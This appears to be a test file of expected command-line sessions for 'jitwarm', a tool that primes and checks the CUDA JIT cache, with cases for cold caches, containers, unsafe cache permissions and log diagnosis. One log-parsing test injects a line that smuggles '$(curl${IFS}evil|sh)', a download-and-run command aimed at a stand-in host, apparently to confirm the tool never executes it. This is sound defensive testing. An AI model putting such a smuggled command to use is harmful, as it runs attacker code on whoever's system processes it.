# The machines of tests/doctor have the causes; here are the forms of an answer.

case warm: simulated_driver two_libraries
$ rm "$JITWARM_SYSROOT/.dockerenv"
$ jitwarm prime -qy lib
$ jitwarm doctor lib
[good] All * modules of these files are in this cache for sm_*, driver *. A fresh process loaded them and *
Note A login has other settings (no CUDA_CACHE_PATH):
jitwarm env apply --path {work}/cache
$ SIMCUDA_GPUS='sm_86:NVIDIA GPU:8G;sm_90:NVIDIA GPU:8G' CUDA_CACHE_MAXSIZE=4GiB jitwarm doctor "$GEN/elf/hidden-in-data.so"
? 1
Cold: 1 of 1 module missing from this cache for sm_90, driver *
To do *CUDA_CACHE_MAXSIZE=4294967295*
For good jitwarm env apply --size 4GiB

case linked: simulated_driver
$ export SIMCUDA_GPUS='sm_90:NVIDIA H100:8G'; rm "$JITWARM_SYSROOT/.dockerenv"; for verb in prime doctor; do jitwarm $verb "$GEN/elf/rdc-and-linked.so"; done
Note The driver links 1 module at each start, which no cache keeps, the first: {gen}/elf/rdc-and-linked.so
Note The driver links 1 module *
Note Still slow? jitwarm doctor --run CMD

case of-a-program: simulated_driver
skip windows
$ jitwarm doctor /bin/ls
? 1
Note a program may load code of other files: jitwarm doctor --run CMD finds what its start compiles
- To do *

case warm-and-open: primed
skip windows
$ rm "$JITWARM_SYSROOT/.dockerenv"
$ jitwarm env apply --path "$PWD/cache"
grep -qs environment.d/jitwarm.conf *>>~/.profile
$ jitwarm doctor lib
Note A login has other settings (no CUDA_CACHE_PATH):
$ chmod 777 cache; jitwarm doctor lib
Note Another user can write to the cache, or replace it *
chmod go-w {work}/cache
$ JITWARM_DRIVER=/nowhere jitwarm doctor --json
? 1
$ jitwarm doctor --json lib
.proof.proven = true
.notes.0.remedy.command ~ "chmod go-w "

case another-cache-was-primed: simulated_driver two_libraries
skip windows
$ rm "$JITWARM_SYSROOT/.dockerenv"
$ (unset CUDA_CACHE_PATH; "$JITWARM" prime -q --yes lib)
$ jitwarm status
? 1
Why This cache is not the one that was primed (CUDA_CACHE_PATH={work}/cache; what was primed is in */.nv/ComputeCache)
To do unset CUDA_CACHE_PATH, or *
$ jitwarm doctor lib
? 1
[bad] This cache is not the one that was primed.
To do jitwarm prime lib
$ ln -s "$HOME/.nv/ComputeCache" same; CUDA_CACHE_PATH=$PWD/same jitwarm status
? 1
- Note *

case a-recorded-command: simulated_driver program
skip windows
$ rm "$JITWARM_SYSROOT/.dockerenv"; jitwarm prime --run $PROGRAM
$ jitwarm doctor
[good] The only module is in this cache for sm_*

case in-a-container: simulated_driver two_libraries
skip windows
$ jitwarm doctor lib
? 1
Note Entries do not last (container's layer): mount a volume at or above {work}/cache*
To do jitwarm prime lib
$ jitwarm prime --yes lib
Note Entries do not last *
$ jitwarm doctor lib
- Cache *
$ jitwarm prime lib
[good] All 2 modules of these files are in this cache for sm_86, driver *.
$ jitwarm doctor "$GEN/elf/only-sass.so"
[good] Nothing has to be compiled for sm_86, driver *
$ jitwarm export --gpu sm_90 lib
[good] Packed.
- Note Entries do not last *

# Software that nobody named: all verbs take it where nothing ever was named, and none where something was, also if that is forgotten.
case found-without-a-list: simulated_driver two_libraries
skip windows
$ rm "$JITWARM_SYSROOT/.dockerenv"; site=$HOME/b/lib/python3.11/site-packages; mkdir -p $site/fast; touch $HOME/b/pyvenv.cfg; mv lib/registered.so $site/fast; jitwarm status
? 1
To do jitwarm prime
$ jitwarm prime --yes lib
[good] The only module *
$ jitwarm status
[good] The only module *
$ jitwarm doctor
[good] The only module of these files is in this cache for sm_86, driver *. A fresh process loaded it and compiled nothing.
$ jitwarm forget lib; for verb in 'prime --yes --background' status doctor; do jitwarm $verb || echo "no: $verb"; done
Nothing is remembered for this cache.
Nothing is remembered for this cache.
To do jitwarm prime PATH, or of a program: jitwarm prime --run CMD
no: doctor
$ rm -r cache "$XDG_STATE_HOME"
$ jitwarm status
? 1
[warn] Cold: 1 of 1 *
Found in */fast
$ jitwarm prime --yes --background
[good] The only module *

case cold: simulated_driver two_libraries
$ jitwarm doctor --cache "$PWD/cache" lib
? 1
[warn] Cold: 2 of 2 modules missing from this cache for sm_86, driver *, the first: {work}/lib/only-ptx.so
Why The modules have no machine code for this GPU.
To do jitwarm prime --cache {work}/cache lib

# What operations compile as they are first used, and how long all of it takes.
case loaded-on-demand: simulated_driver
skip windows
$ rm "$JITWARM_SYSROOT/.dockerenv"
$ mkdir lib
$ printf '.version 8.4\n.target sm_80\n.address_size 64\n.visible .entry k() { ret; }\n' >lib/a.ptx
$ jitwarm doctor --cache "$PWD/cache" lib
? 1
[warn] Cold: 1 of 1 module missing from this cache for sm_86, driver *, the first: {work}/lib/a.ptx
$ jitwarm status lib
? 1
Estimate under 1 s to compile, with 1 worker
$ jitwarm prime -qy lib
$ rm -r cache
$ jitwarm status
? 1
[warn] Cold: 1 of 1 module missing from this cache for sm_86, driver *, the first: {work}/lib/a.ptx
$ jitwarm doctor
? 1
[bad] This cache has no entries of this driver for this GPU.
Why it is empty, and had entries
To do jitwarm prime

case an-error-in-a-log:
$ printf '%s\n' "10:00:00 W Could not load dynamic library 'libcudart.so.11.0'; dlerror" '10:00:02 a' '10:04:02 RuntimeError: CUDA error: no kernel image is available for execution on the device' "ImportError: libcudnn.so.8: cannot open shared object file" >a.log
$ jitwarm doctor --log a.log
? 1
[bad] Line 3: the software has neither machine code nor usable PTX for this GPU*
Also Line * (and 1 more: -v)
To do install a build for this GPU*
jitwarm scan PATH
$ echo 'FlashAttention only supports Ampere GPUs or newer' | jitwarm doctor --log -
? 1
[bad] Line 1: FlashAttention has no code for this GPU.
*VLLM_ATTENTION_BACKEND*XFORMERS*
$ printf '%s\n' 'ImportError: libcu$(curl${IFS}evil|sh): cannot open shared object file' | jitwarm doctor --log -
? 1
/sbin/ldconfig -p | grep libcu
$ jitwarm doctor --json --log a.log
? 1
.errors.1.line = 3

case a-log-without-any:
$ echo 'epoch 1' >a.log
$ jitwarm doctor --log a.log
No line of this log is a known error, or a known wait for the driver.
Note Still slow? jitwarm doctor --run CMD
$ jitwarm doctor --log /dev/zero
There is no text in this log.
$ jitwarm doctor --log missing.log
? 2
[bad] jitwarm: missing.log: no such file*

case another-works: simulated_driver two_libraries
skip windows
$ "$JITWARM" status lib >/dev/null
? 1
$ SIMCUDA_COST=0+9000 "$JITWARM" prime --yes --jobs 1 lib >/dev/null 2>&1 &
$ until "$JITWARM" status | grep -q "Running "; do :; done
$ jitwarm doctor lib
? 1
Running jitwarm, process *
To do jitwarm prime lib
$ jitwarm status lib
? 1
To do jitwarm prime lib
$ jitwarm prime --time-limit 6s lib
? 7
To do jitwarm prime *lib
jitwarm: waiting for another jitwarm (process *)
$ jitwarm doctor --watch=1s
*jitwarm (*) compiles now, into {work}/cache
$ kill $! && wait

case watched: simulated_driver
skip windows
$ jitwarm doctor --watch=1s
No program was seen to compile in 1 s.
$ [ "$(id -u)" != 0 ] || jitwarm doctor --watch=1s
- *as root*
